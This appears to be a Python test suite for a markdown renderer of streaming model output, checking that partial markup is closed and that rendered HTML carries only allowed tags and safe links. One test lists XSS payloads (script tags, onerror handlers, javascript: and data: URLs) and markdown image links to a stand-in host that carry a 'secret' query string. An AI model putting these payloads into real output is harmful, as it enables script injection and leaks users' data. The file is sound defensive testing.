"""Markdown of a model: safe, and readable while it is incomplete."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from utils.show.live_markdown import complete, render

SAMPLE = """# Layers

- **Base Layer**: a *light* fabric. See [our guide](https://fernhill.example/layers) and `wash 30`.
- **Mid Layer**: wool, 2 * 3 pieces

Then
---
```sh
course check **all**
```
Done. ![a map](https://fernhill.example/map.png) | *last words*
"""


def visible(page: str) -> str:
    """What a reader sees of HTML, without code."""
    return re.sub(r"<code.*?</code>|<[^>]+>", "", page, flags=re.DOTALL)


@pytest.mark.parametrize(
    ("unfinished", "completed"),
    [
        ("**Base La", "**Base La**"),
        ("**Base Layer*", "**Base Layer**"),
        ("- **Base", "- **Base**"),
        ("a *light", "a *light*"),
        ("**", ""),
        ("text **", "text"),
        ("Run `course te", "Run `course te`"),
        ("see [our gui", "see our gui"),
        ("see [our guide](https://fern", "see our guide"),
        ("```sh\nls", "```sh\nls\n```"),
        ("```sh\nls\n``", "```sh\nls\n\n```"),
        ("Then\n-", "Then"),
        ("Then\n##", "Then"),
        ("all **done** here", "all **done** here"),
        ("2 * 3", "2 * 3"),
        ("", ""),
    ],
)
def test_what_is_open_is_closed(unfinished: str, completed: str):
    assert complete(unfinished) == completed


@pytest.mark.parametrize("length", range(len(SAMPLE) + 1))
def test_no_mark_flickers_through_any_beginning_of_an_answer(length: int):
    seen = visible(render(SAMPLE[:length]))
    assert "**" not in seen
    assert "`" not in seen
    assert "](" not in seen
    assert not re.search(r"\*\w", seen), seen


def test_a_finished_answer_is_rendered_in_full():
    page = render(SAMPLE)
    for part in ("<h1>Layers</h1>", "<strong>Base Layer</strong>", "<em>light</em>", "<li>"):
        assert part in page
    assert '<a href="https://fernhill.example/layers" rel="noopener noreferrer nofollow">' in page
    assert "course check **all**" in page


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![x](https://collector.example/?said=secret)",
        "![x][1]\n\n[1]: https://collector.example/?said=secret",
        "[x][1]\n\n[1]: javascript:alert(1)",
        '[x](https://a.example/"onmouseover="alert(1))',
        "<a href='javascript:alert(1)'>x</a>",
        "<https://a.example/><javascript:alert(1)>",
        "`<script>`\n\n```\n<script>alert(1)</script>\n```",
        "| a |\n|---|\n| <script>alert(1)</script> |",
    ],
)
def test_nothing_of_a_model_runs_or_loads(attack: str):
    for length in range(len(attack) + 1):
        assert_harmless(render(attack[:length]))


TAGS = "p h1 h2 h3 h4 h5 h6 ul ol li em strong del code pre a hr br blockquote table thead tbody"
ALLOWED = frozenset([*TAGS.split(), "tr", "th", "td"])


def assert_harmless(page: str) -> None:
    """Only known tags; only a link, a code's language, a list's start and an alignment set."""
    for name, attributes in re.findall(r"<\s*/?([a-zA-Z0-9]+)([^>]*)>", page):
        assert name in ALLOWED, page
        for attribute in re.findall(r"([\w-]+)\s*=", re.sub(r'"[^"]*"', '""', attributes)):
            assert attribute in ("href", "rel", "class", "start", "style"), page
    for address in re.findall(r'href="([^"]*)"', page):
        assert address.startswith(("http://", "https://", "mailto:")), page


@given(st.text(alphabet="*_`#[]()!<>-=| \n~ab1.:\"'/\\&", max_size=60))
def test_any_text_is_rendered_without_harm(text: str):
    assert_harmless(render(text))
